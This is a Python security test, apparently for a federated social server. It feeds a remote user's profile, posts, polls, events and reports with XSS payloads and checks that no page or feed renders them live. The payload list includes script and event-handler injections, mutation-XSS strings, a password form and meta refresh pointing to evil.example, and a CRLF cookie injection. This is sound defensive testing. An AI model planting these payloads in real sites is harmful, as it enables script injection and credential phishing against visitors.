"""What a stranger's server sends, on every page that shows it: read as a browser reads it, nothing of it is alive.

Her posts, name, profile, poll, event, reply, report and host arrive as signed activities. Each carries every trick with a
mark of its own, so that a page that shows none of them is known too.
"""

import re
from typing import Any

from node.moderation import cases
from tests.support.peer import PUBLIC
from tests.web.reader import Page, Reader
from tests.websafety.house import House
from tests.websafety.pages import every

TRICKS = (
    "<script>alert('MARK')</script>",
    "<img src=x onerror=alert('MARK')>",
    '"><svg/onload=alert(1)>',
    "<a href=\"javascript:alert('MARK')\">lien</a>",
    '<a href="java&#9;script:alert(1)">lien</a>',
    '<a href="data:text/html,<script>alert(1)</script>">lien</a>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<style>*{background:url(https://evil.example/x)}</style><b style='position:fixed;inset:0'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe><object data=x></object><base href=//evil.example>",
    "<form action=//evil.example><input name=password></form><meta http-equiv=refresh content='0;url=//evil.example'>",
    "</title></textarea></script><script>alert(1)</script>",
    "{{7*7}}${7*7}<%= 7*7 %>{% raw %}",
    "\u202eexe.knil\u202c \u2066x",
    "MARK\r\nSet-Cookie: a=b",
)
EVIL = " ".join(TRICKS)
MARK = "q7dangerq7"


def evil(where: str) -> str:
    """Every trick, and a word that says where it was put."""
    return f"{MARK}{where} {EVIL}"


ALIVE = {
    "script",
    "iframe",
    "object",
    "embed",
    "base",
    "svg",
    "math",
    "style",
    "noscript",
    "form",
    "meta",
    "link",
    "frame",
    "template",
}


def alive(page: Page, plain: Page) -> list[str]:
    """What stands on *page* that does something, and does not stand on *plain*, the same without strangers."""

    def acts(one: Page) -> dict[str, int]:
        found: dict[str, int] = {}
        for each in one.elements:
            got = each.attributes
            kinds = [
                f"{name} on <{each.tag}>"
                for name in got
                if name.startswith("on") or name in ("style", "srcdoc", "formaction")
            ]
            kinds += [
                f"{name}={got[name]}" for name in ("href", "src", "action", "poster", "data", "xlink:href")
                if re.match(r"[\s\x00-\x20]*(javascript|data|vbscript)\s*:", got.get(name, ""), re.IGNORECASE)
            ]  # fmt: skip
            if each.tag in ALIVE and each.tag not in ("svg", "form", "meta", "link"):
                kinds.append(f"<{each.tag}>")
            if each.tag in ("form", "meta", "link", "input") and "evil.example" in str(got):
                kinds.append(f"<{each.tag} {got}>")
            for kind in kinds:
                found[kind] = found.get(kind, 0) + 1
        return found

    now, before = acts(page), acts(plain)
    return [kind for kind, count in now.items() if count > before.get(kind, 0)]


async def takes(house: House, activity: dict[str, Any]) -> None:
    answer = await house.zoe.send(house.town.host, activity)
    assert answer.status == 202, answer.body
    await house.fediverse.settle()


async def arrived(house: House) -> dict[str, str]:
    """Everything of hers is here; more addresses to look at."""
    zoe, peer, hall = house.zoe, house.peer, house.town.hall
    house.fediverse.clock.forward(1)
    picture = {"type": "Image", "mediaType": "image/png", "url": f"{peer.home}/a.png", "name": evil("alt")}
    peer.documents[zoe.uri] = zoe.document(
        name=evil("name"), summary=evil("bio"), icon=picture,
        attachment=[{"type": "PropertyValue", "name": evil("field"), "value": evil("value")}],
        tag=[{"type": "Emoji", "name": ":<b>x</b>:", "icon": {"type": "Image", "url": f"{peer.home}/<e>.png"}}],
    )  # fmt: skip
    await takes(house, zoe.activity("Update", peer.documents[zoe.uri], to=[PUBLIC]))
    mention = {"type": "Mention", "href": hall.actor.uri, "name": hall.handle}
    everything = {
        "content": evil("content"), "summary": evil("warning"), "to": [PUBLIC], "cc": [hall.actor.uri],
        "attachment": [{"type": "Document", "mediaType": "image/png", "url": f"{peer.home}/<i>.png", "name": evil("picture")}],
        "tag": [mention, {"type": "Hashtag", "name": f"#{MARK}"}, {"type": "Emoji", "name": ":\"x:", "icon": {"url": f"{peer.home}/e.png"}}],
    }  # fmt: skip
    found = (await house.town.node.visitor().get(f"/api/v1/statuses/{house.names['post']}")).ok()
    parent = found["uri"]
    held = (await house.town.node.visitor().get(f"/api/v1/statuses/{house.names['plain']}")).ok()["uri"]
    reply = zoe.note("", **{**everything, "inReplyTo": parent})
    await takes(house, zoe.create(reply))
    await takes(house, zoe.create(zoe.note("", **{**everything, "inReplyTo": held})))
    poll = zoe.note(
        "", **{**everything, "type": "Question", "inReplyTo": parent, "endTime": "2027-01-01T00:00:00Z",
               "oneOf": [{"type": "Note", "name": evil("option"), "replies": {"totalItems": 1}}, {"type": "Note", "name": "Non"}]},
    )  # fmt: skip
    await takes(house, zoe.create(poll))
    event = zoe.note(
        "", **{**everything, "type": "Event", "inReplyTo": parent, "name": evil("title"), "startTime": "2026-10-01T10:00:00Z",
               "location": {"type": "Place", "name": evil("place"), "address": {"streetAddress": evil("street")}}},
    )  # fmt: skip
    await takes(house, zoe.create(event))
    await takes(house, zoe.activity("Flag", [hall.actor.uri, parent], content=evil("flag")))
    boosted = await hall.seen(reply["id"])
    await hall.act("reblog", boosted["id"])
    await hall.client.post(f"/api/v1/accounts/{(await hall.find(zoe.handle))['id']}/follow")
    await house.fediverse.settle()
    number = await house.ctx.db.reader.value(
        "SELECT id FROM cases WHERE target_id = $1 AND state = 'open'", hall.actor.id
    )
    case = (await cases.require(house.ctx.db.reader, number)).number
    return {
        "her profile": "/@zoe@loin.example", "a case": f"/admin/reports/{case}",
        "her post": f"/@zoe@loin.example/{boosted['id']}", "to act upon": f"/authorize_interaction?uri={reply['id']}",
        "a tag": f"/tags/{MARK}", "hosts": "/admin/hosts", "her host": "/admin/hosts/of/loin.example", "log": "/admin/audit",
        "reports": "/admin/reports", "replies": "/desk/mairie/replies", "refused replies": "/desk/mairie/replies?shown=refused",
        "a report of her": f"/report?about={reply['id']}",
    }  # fmt: skip


def pages(house: House) -> dict[str, str]:
    return {route: path for route, path in every(house).items() if route not in ("/source.tar.gz", "/favicon.ico")}


async def shown(house: House, who: str, path: str) -> tuple[Page, Reader]:
    reader = await house.browser(who)  # type: ignore[arg-type]
    return await reader.open(path), reader


async def test_nothing_of_a_strangers_words_is_alive(house: House):
    """On no page of anybody's, in no feed."""
    plain = {
        (who, route): (await shown(house, who, path))[0]
        for who in ("stranger", "odile", "keeper")
        for route, path in pages(house).items()
    }
    more = await arrived(house)
    empty = Page("<html></html>")
    wrong: list[str] = []
    seen: set[str] = set()
    for who in ("stranger", "odile", "keeper"):
        for route, path in {**pages(house), **more}.items():
            page, reader = await shown(house, who, path)
            seen |= set(re.findall(rf"{MARK}([a-z]+)", reader.answer.text))
            head = reader.answer.headers
            if "html" not in head.get("content-type", ""):
                if re.search(
                    r"<(script|img|svg|iframe)|onerror=alert", re.sub(r"&lt;.*?&gt;", "", reader.answer.text)
                ) and ("xml" in head["content-type"]):
                    wrong.append(f"{who}: {path}: a feed carries what runs")
                continue
            before = plain.get((who, route), plain.get((who, "/about"), empty))
            wrong += [
                f"{who}: {path}: {each}"
                for each in alive(page, before)
                if not each.startswith("<script>") or "factor" not in path
            ]
            if "7*7" not in reader.answer.text and re.search(rf"{MARK}\w+[^<]*\b49\b", reader.answer.text):
                wrong.append(f"{who}: {path}: a template was run")
            if MARK in reader.answer.text and page.faults:
                wrong.append(f"{who}: {path}: her words break the page: {page.faults[:2]}")
            if "set-cookie" in head and "a=b" in head["set-cookie"]:
                wrong.append(f"{who}: {path}: she sets a cookie")
            for each in page.elements:
                address = each.attributes.get("src", "")
                if "loin.example" in address or "evil.example" in address:
                    wrong.append(f"{who}: {path} loads {address} from her")
    assert wrong == [], "\n".join(wrong)
    assert {"name", "content", "warning", "flag", "option"} <= seen, (
        f"her words were shown nowhere, so nothing was seen: {seen}"
    )
